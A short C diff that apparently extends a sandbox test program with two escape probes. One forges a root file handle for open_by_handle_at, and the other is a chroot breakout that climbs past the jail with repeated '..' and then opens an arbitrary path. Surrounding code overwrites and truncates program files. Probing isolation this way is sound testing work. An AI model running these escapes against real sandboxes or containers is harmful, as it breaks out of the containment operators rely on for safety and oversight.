@@ -109,11 +109,46 @@ static int overwrite_programs(char **arguments)
 			if (fd < 0)
 				continue;
 			opened++;
+			char target[128] = "";
+			(void)!readlink(path, target, sizeof(target) - 1);
+			(void)printf("opened %s -> %s\n", path, target);
 			(void)!write(fd, "overwritten", 11);
 			(void)!ftruncate(fd, 0);
 			(void)close(fd);
 		}
 	(void)printf("opened: %d\n", opened);
+	return 0;
+}
+
+/* --- ways out -----------------------------------------------------------------------------------
+ */
+
+/* The root's handle is known: number 2 of most file systems. */
+static int open_by_handle(char **arguments)
+{
+	union {
+		struct file_handle handle;
+		char room[sizeof(struct file_handle) + 8];
+	} root = { .handle = { .handle_bytes = 8, .handle_type = 1 } };
+
+	(void)arguments;
+	root.handle.f_handle[0] = 2;
+	int fd = open("/etc/passwd", O_RDONLY);
+	return open_by_handle_at(fd < 0 ? AT_FDCWD : fd, &root.handle, O_RDONLY) < 0;
+}
+
+/* The old way: a root below the working directory, which then leads up past it. */
+static int leave_chroot(char **arguments)
+{
+	int root_fd = open("/", O_RDONLY | O_DIRECTORY);
+
+	(void)mkdir("/inner", 0755);
+	(void)!chroot("/inner");
+	(void)!fchdir(root_fd);
+	for (int i = 0; i < 64; i++)
+		(void)!chdir("..");
+	(void)!chroot(".");
+	say("out", open(arguments[0], O_RDONLY));
 	return 0;
 }
 
@@ -128,6 +163,8 @@ int main(int argc, char **argv)
 		{ "type", type_into },
 		{ "look-into", look_into },
 		{ "overwrite", overwrite_programs },
+		{ "open-by-handle", open_by_handle },
+		{ "leave-chroot", leave_chroot },
 	};
 
 	for (size_t i = 0; argc > 1 && i < sizeof(words) / sizeof(*words); i++)
